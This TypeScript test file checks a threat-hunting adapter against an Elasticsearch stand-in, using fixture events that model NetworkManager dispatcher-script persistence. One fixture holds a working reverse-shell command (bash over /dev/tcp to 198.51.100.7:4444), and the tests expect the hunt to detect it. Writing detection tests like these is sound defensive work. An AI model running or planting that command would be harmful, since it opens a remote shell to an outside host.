import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ElasticsearchHuntRunner, createElasticsearchClient } from '../functions/adapters/elasticsearch-hunt-runner';
import { defaultHuntConfig, parseHuntConfig } from '../functions/core/hunt-config';
import { huntById } from '../functions/core/hunts';
import { startElasticsearchStandIn, type ClusterBackendOptions, type ElasticsearchStandIn } from '../functions/local/elasticsearch-stand-in';
import { clusterOf, type StoredEvent } from '../functions/local/esql';
import { NOW } from './support/esql';

/*
 * The stand-in answering like Elasticsearch from stored events, checked with the real
 * @elastic/elasticsearch client over HTTP. Response shapes follow the REST API reference:
 * "Get cluster info" (GET /), "Run an ES|QL query", "Run an async ES|QL query" (and get, delete),
 * "Check user privileges", "Resolve indices", "Get the field capabilities".
 */
const API_KEY = 'dGVzdDprZXk=';
const PROCESS = 'logs-endpoint.events.process-default';
const FILE = 'logs-endpoint.events.file-default';
const daysAgo = (d: number) => new Date(NOW - d * 86_400_000).toISOString();
const child = huntById('dispatcher-script-child')!;
const write = huntById('dispatcher-script-write')!;

/** A handful of hand-written Elastic Defend events: one attack in each hunt, and noise. */
const EVENTS: StoredEvent[] = [
  { index: PROCESS, source: { '@timestamp': daysAgo(1), agent: { id: 'agent-web-03' }, host: { name: 'web-03', os: { type: 'linux' } }, event: { type: ['start'], action: 'exec' }, process: { executable: '/usr/bin/bash', command_line: "bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'", parent: { name: 'panix-dispatcher.sh', executable: '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh' } } } },
  { index: PROCESS, source: { '@timestamp': daysAgo(2), agent: { id: 'agent-db-01' }, host: { name: 'db-01', os: { type: 'linux' } }, event: { type: ['start'], action: 'exec' }, process: { executable: '/usr/bin/logger', command_line: 'logger up', parent: { name: 'bash', executable: '/usr/bin/bash' } } } },
  { index: PROCESS, source: { '@timestamp': daysAgo(45), agent: { id: 'agent-old' }, host: { name: 'old', os: { type: 'linux' } }, event: { type: ['start'], action: 'exec' }, process: { executable: '/usr/bin/id', command_line: 'id', parent: { name: 'nm-dispatcher', executable: '/usr/libexec/nm-dispatcher' } } } },
  { index: FILE, source: { '@timestamp': daysAgo(1), agent: { id: 'agent-web-03' }, host: { name: 'web-03', os: { type: 'linux' } }, event: { type: ['creation'], action: 'creation' }, file: { path: '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', name: 'panix-dispatcher.sh', extension: 'sh' }, process: { executable: '/usr/bin/bash', name: 'bash' } } },
  { index: FILE, source: { '@timestamp': daysAgo(3), agent: { id: 'agent-db-01' }, host: { name: 'db-01', os: { type: 'linux' } }, event: { type: ['change'], action: 'overwrite' }, file: { path: '/etc/NetworkManager/dispatcher.d/01-ifupdown', name: '01-ifupdown' }, process: { executable: '/usr/bin/dpkg', name: 'dpkg' } } },
];

async function withCluster(major: 8 | 9, cluster: Partial<ClusterBackendOptions>, test: (es: ElasticsearchStandIn) => Promise<void>) {
  const es = await startElasticsearchStandIn({ majorVersion: major, cluster: { data: clusterOf(EVENTS), now: () => NOW, ...cluster } });
  try {
    await test(es);
  } finally {
    await es.close();
  }
}

const clientFor = (url: string, timeoutMs = 5_000) => createElasticsearchClient({ node: url, apiKey: API_KEY }, timeoutMs);
const runner = (url: string, timeoutMs = 5_000, config = defaultHuntConfig()) =>
  new ElasticsearchHuntRunner(clientFor(url, timeoutMs), config, { asyncWait: '200ms', retryContext: { sleep: async () => {} } });

for (const major of [8, 9] as const) {
  describe(`an evaluator-backed Elasticsearch ${major}.x stand-in`, () => {
    it('runs both real hunts through the unchanged adapter and finds exactly the attack', async () => {
      await withCluster(major, {}, async (es) => {
        const childRows = await runner(es.url).run(child);
        assert.deepEqual(childRows.findings.map((f) => f.identity), [{
          parent_script: '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh',
          'process.executable': '/usr/bin/bash',
          masked_command_line: "bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'",
        }]);
        assert.deepEqual(childRows.findings[0]!.hostNames, ['web-03']);
        assert.equal(childRows.findings[0]!.firstSeen, daysAgo(1));
        const writeRows = await runner(es.url).run(write);
        assert.deepEqual(writeRows.findings.map((f) => f.identity), [{ 'file.path': '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', 'process.executable': '/usr/bin/bash', agent: 'agent-web-03', 'file.hash.sha256': null }]);
        assert.equal(writeRows.partial, false);
        assert.equal(writeRows.truncated, false);
        assert.equal(es.requests[0]!.headers['content-encoding'], 'gzip', 'the client compresses request bodies and the stand-in reads them');
      });
    });

    it('answers GET / with its version, cluster name and tagline', async () => {
      await withCluster(major, { clusterName: 'soc-prod' }, async (es) => {
        const info = await clientFor(es.url).info();
        assert.equal(info.version.number, major === 8 ? '8.15.5' : '9.1.5');
        assert.equal(info.cluster_name, 'soc-prod');
        assert.equal(info.tagline, 'You Know, for Search');
        assert.match(info.version.lucene_version, major === 8 ? /^9\./ : /^10\./);
      });
    });

    it('sends Warning headers the client surfaces, in Elasticsearch’s format', async () => {
      const twoTypes: StoredEvent = { index: PROCESS, source: { '@timestamp': daysAgo(1), event: { type: ['start', 'change'] } } };
      await withCluster(major, { data: clusterOf([...EVENTS, twoTypes]) }, async (es) => {
        const response = await clientFor(es.url).esql.query({ query: 'FROM logs-endpoint.events.process-* | WHERE event.type == "start"' }, { meta: true });
        const warnings = response.warnings ?? [];
        const version = major === 8 ? '8.15.5' : '9.1.5';
        assert.equal(response.body.values.length, 3, 'the event with two types is dropped');
        assert.ok(warnings.every((w) => new RegExp(`^299 Elasticsearch-${version.replace(/\./g, '\\.')}-[0-9a-f]+ "`).test(w)), warnings.join('\n'));
        assert.ok(warnings.some((w) => w.includes('"No limit defined, adding default limit of [1000]"')));
        assert.ok(warnings.some((w) => w.includes('"Line 1:45: evaluation of [event.type == \\"start\\"] failed, treating result as null. Only first 20 failures recorded."')), warnings.join('\n'));
        assert.ok(warnings.some((w) => w.includes('"Line 1:45: java.lang.IllegalArgumentException: single-value function encountered multi-value"')));
      });
    });

    it('answers an unknown index as 8.x (verification_exception) or 9.x (no columns), which the runner reports as no data', async () => {
      await withCluster(major, {}, async (es) => {
        const config = parseHuntConfig({ extraIndexPatterns: ['endgame-*'] });
        const rows = await runner(es.url, 5_000, config).run(child);
        assert.equal(rows.findings.length, 1, 'a pattern that matches nothing next to one that matches is fine');
        const response = await clientFor(es.url).esql.query({ query: 'FROM endgame-* | LIMIT 1' }).then(
          (body) => ({ body }),
          (error: { meta?: { statusCode?: number; body?: { error?: { type?: string } } } }) => ({ error: error.meta }),
        );
        if (major === 8) assert.equal('error' in response && response.error?.body?.error?.type, 'verification_exception');
        else assert.deepEqual('body' in response && { columns: response.body.columns, values: response.body.values }, { columns: [], values: [] });
      });
    });

    it('reports is_partial when a shard or remote cluster is injected as failed', async () => {
      await withCluster(major, { isPartial: (body) => String(body.query).includes('file-*') }, async (es) => {
        assert.equal((await runner(es.url).run(write)).partial, true);
        assert.equal((await runner(es.url).run(child)).partial, false);
      });
    });

    it('lets a scripted answer take over one request, the cluster the rest', async () => {
      let first = true;
      const es = await startElasticsearchStandIn({
        majorVersion: major,
        cluster: { data: clusterOf(EVENTS), now: () => NOW },
        respond: () => (first ? ((first = false), { status: 503, body: { error: { type: 'unavailable_shards_exception', reason: 'busy' } } }) : undefined),
      });
      try {
        const rows = await runner(es.url).run(child);
        assert.equal(rows.findings.length, 1, 'retried after the 503 and answered by the cluster');
        assert.equal(es.requests.length, 3, 'the 503, its retry, then the samples of the rare group');
      } finally {
        await es.close();
      }
    });
  });
}

describe('the async ES|QL API', () => {
  it('serves the adapter’s fallback when a hunt outlasts the request timeout: submit, poll, delete', async () => {
    // Margins of a second or more, so a loaded machine cannot reorder the timeout and the answer.
    await withCluster(9, { queryDurationMs: 1_500 }, async (es) => {
      const rows = await runner(es.url, 200).run(child);
      assert.equal(rows.findings.length, 1);
      const all = es.requests.map((r) => `${r.method} ${r.path.split('?')[0]!.replace(/\/_query\/async\/.+/, '/_query/async/{id}')}`);
      // The rare groups first (then the same again for their samples).
      const calls = all.slice(0, all.indexOf('DELETE /_query/async/{id}') + 1);
      assert.deepEqual(calls.slice(0, 2), ['POST /_query', 'POST /_query/async']);
      assert.ok(calls.slice(2, -1).every((c) => c === 'GET /_query/async/{id}') && calls.length >= 4, calls.join(', '));
      assert.equal(calls.at(-1), 'DELETE /_query/async/{id}');
      const id = decodeURIComponent(es.requests.at(-1)!.path.split('/').at(-1)!);
      const gone = await clientFor(es.url).esql.asyncQueryGet({ id }).then(() => 200, (e: { meta?: { statusCode?: number } }) => e.meta?.statusCode);
      assert.equal(gone, 404, 'deleted: nothing lingers on the cluster');
    });
  });

  it('answers within wait_for_completion_timeout, with an id only when keep_on_completion is set', async () => {
    await withCluster(8, { queryDurationMs: 50 }, async (es) => {
      const client = clientFor(es.url);
      const quick = (await client.esql.asyncQuery({ query: 'FROM logs-* | STATS c = COUNT(*)', wait_for_completion_timeout: '2s' })) as unknown as Record<string, unknown>;
      assert.equal(quick.is_running, false);
      assert.equal(quick.id, undefined);
      assert.deepEqual(quick.values, [[5]]);
      const kept = (await client.esql.asyncQuery({ query: 'FROM logs-* | STATS c = COUNT(*)', wait_for_completion_timeout: '2s', keep_on_completion: true })) as unknown as Record<string, unknown>;
      assert.equal(typeof kept.id, 'string');
      const again = (await client.esql.asyncQueryGet({ id: kept.id as string })) as unknown as Record<string, unknown>;
      assert.deepEqual(again.values, [[5]]);
      assert.deepEqual(await client.esql.asyncQueryDelete({ id: kept.id as string }), { acknowledged: true });
    });
  });

  it('says is_running until the query is done', async () => {
    await withCluster(9, { queryDurationMs: 1_500 }, async (es) => {
      const client = clientFor(es.url);
      const running = (await client.esql.asyncQuery({ query: 'FROM logs-* | STATS c = COUNT(*)', wait_for_completion_timeout: '10ms' })) as unknown as Record<string, unknown>;
      assert.deepEqual(Object.keys(running).sort(), ['id', 'is_running']);
      assert.equal(running.is_running, true);
      const still = (await client.esql.asyncQueryGet({ id: running.id as string, wait_for_completion_timeout: '10ms' })) as unknown as Record<string, unknown>;
      assert.equal(still.is_running, true);
      const done = (await client.esql.asyncQueryGet({ id: running.id as string, wait_for_completion_timeout: '5s' })) as unknown as Record<string, unknown>;
      assert.equal(done.is_running, false);
      assert.deepEqual(done.values, [[5]]);
    });
  });
});

describe('security and index metadata', () => {
  const privileges = { username: 'nm-hunt', cluster: ['monitor'], index: [{ names: ['logs-endpoint.events.process-*'], privileges: ['read', 'view_index_metadata'] }] };

  it('answers _has_privileges per index pattern and privilege', async () => {
    await withCluster(8, { privileges }, async (es) => {
      const answer = await clientFor(es.url).security.hasPrivileges({
        cluster: ['monitor', 'manage'],
        index: [{ names: ['logs-endpoint.events.process-*', 'logs-endpoint.events.file-*'], privileges: ['read', 'view_index_metadata'] }],
      });
      assert.equal(answer.username, 'nm-hunt');
      assert.equal(answer.has_all_requested, false);
      assert.deepEqual(answer.cluster, { monitor: true, manage: false });
      assert.deepEqual(answer.index, {
        'logs-endpoint.events.process-*': { read: true, view_index_metadata: true },
        'logs-endpoint.events.file-*': { read: false, view_index_metadata: false },
      });
    });
  });

  it('reads only indices the user may read: a denied concrete index is a 403, a pattern skips it', async () => {
    await withCluster(8, { privileges }, async (es) => {
      const denied = await clientFor(es.url).esql.query({ query: `FROM ${FILE} | LIMIT 1` }).then(() => 200, (e: { meta?: { statusCode?: number } }) => e.meta?.statusCode);
      assert.equal(denied, 403);
      const rows = await runner(es.url).run(write);
      assert.equal(rows.noData, true, 'logs-endpoint.events.file-* matches no readable index: Unknown index on 8.x');
      assert.equal((await runner(es.url).run(child)).findings.length, 1);
    });
  });

  it('resolves index patterns to data streams and their backing indices', async () => {
    await withCluster(9, {}, async (es) => {
      const resolved = await clientFor(es.url).indices.resolveIndex({ name: 'logs-endpoint.events.*' });
      assert.deepEqual(resolved.indices, []);
      assert.deepEqual(resolved.data_streams.map((d) => d.name), [FILE, PROCESS]);
      assert.equal(resolved.data_streams[0]!.timestamp_field, '@timestamp');
      const none = await clientFor(es.url).indices.resolveIndex({ name: 'endgame-*' });
      assert.deepEqual([none.indices, none.data_streams], [[], []]);
    });
  });

  it('answers _field_caps from the mappings: wildcard command lines, keywords, dates', async () => {
    await withCluster(9, {}, async (es) => {
      const caps = await clientFor(es.url).fieldCaps({ index: 'logs-endpoint.events.process-*', fields: ['process.command_line', 'process.parent.executable', '@timestamp', 'file.path'] });
      assert.equal(caps.indices.length, 1);
      assert.deepEqual(caps.fields['process.command_line'], { wildcard: { type: 'wildcard', metadata_field: false, searchable: true, aggregatable: true } });
      assert.equal(Object.keys(caps.fields['process.parent.executable']!)[0], 'keyword');
      assert.equal(Object.keys(caps.fields['@timestamp']!)[0], 'date');
      const missing = await clientFor(es.url).fieldCaps({ index: 'nope', fields: ['*'] }).then(() => 200, (e: { meta?: { statusCode?: number } }) => e.meta?.statusCode);
      assert.equal(missing, 404);
    });
  });
});
